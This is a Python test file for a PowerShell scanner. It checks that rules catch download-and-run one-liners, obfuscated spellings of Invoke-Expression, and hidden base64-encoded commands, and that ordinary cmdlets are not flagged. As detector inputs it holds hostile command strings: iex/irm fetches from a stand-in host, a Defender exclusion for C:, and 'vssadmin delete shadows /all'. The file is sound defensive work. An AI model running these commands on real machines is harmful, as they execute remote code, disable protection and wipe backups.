"""What the PowerShell analyzer reports."""

import base64
import os

import pytest
from hypothesis import given, strategies as st

from metier.scan.languages.powershell import find
from metier.scan.rules.powershell import RULES

CASES = os.path.join(os.path.dirname(__file__), "..", "..", "rules")


def rules(code: str) -> set[str]:
    return {hit.rule for hit in find(code)}


def case(rule: str, name: str) -> str:
    with open(os.path.join(CASES, rule, f"{name}.ps1.txt"), encoding="utf-8") as file:
        return file.read()


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


@pytest.mark.parametrize("rule", [rule.id for rule in RULES])
def test_each_rule_finds_its_case_and_leaves_its_near_miss(rule: str) -> None:
    found, near = rules(case(rule, "match")), rules(case(rule, "near"))

    assert rule in found
    assert rule not in near


@pytest.mark.parametrize(
    "code",
    [
        "iex (irm https://get.example/a)",
        "irm https://get.example/a | iex",
        "IEX((New-Object System.Net.WebClient).DownloadString('https://get.example/a'))",
        "i`E`x (i`w`r https://get.example/a)",
        "$t = (New-Object Net.WebClient).DownloadString($u)\niEx $t",
    ],
)
def test_a_download_that_is_run_is_seen_in_every_spelling(code: str) -> None:
    assert "SC450" in rules(code)


def test_an_encoded_command_is_decoded_and_looked_at_again() -> None:
    code = f"powershell -w hidden -EncodedCommand {encoded('Add-MpPreference -ExclusionPath C:')}"

    assert {"SC453", "SC455", "SC456"} <= rules(code)


def test_encoding_twice_does_not_hide_it() -> None:
    inner = encoded("vssadmin delete shadows /all")
    code = f"powershell -enc {encoded('powershell -enc ' + inner)}"

    assert "SC464" in rules(code)


def test_what_is_decoded_is_reported_at_the_encoded_text() -> None:
    text = encoded("vssadmin delete shadows /all")
    code = f"powershell -enc {text}"

    hit = next(hit for hit in find(code) if hit.rule == "SC464")

    assert text == code[hit.start : hit.end]


@pytest.mark.parametrize("word", ["iNvOkE-eXpReSsIoN", "I`n`v`o`ke-Expression"])
def test_words_that_hide_are_reported(word: str) -> None:
    assert {"SC462", "SC451"} <= rules(f"{word} $x")


@pytest.mark.parametrize(
    "word", ["Get-ChildItem", "ConvertTo-SecureString", "$PSScriptRoot", "Get-ADUser"]
)
def test_words_as_people_write_them_are_not(word: str) -> None:
    assert "SC462" not in rules(f"{word} $x")


@given(st.text(alphabet="$`'\"@#<>()[]{}|;-=. \niexInvoke\0\ud800", max_size=120))
def test_no_text_makes_it_raise(code: str) -> None:
    hits = find(code)

    assert all(0 <= hit.start <= hit.end <= len(code) for hit in hits)
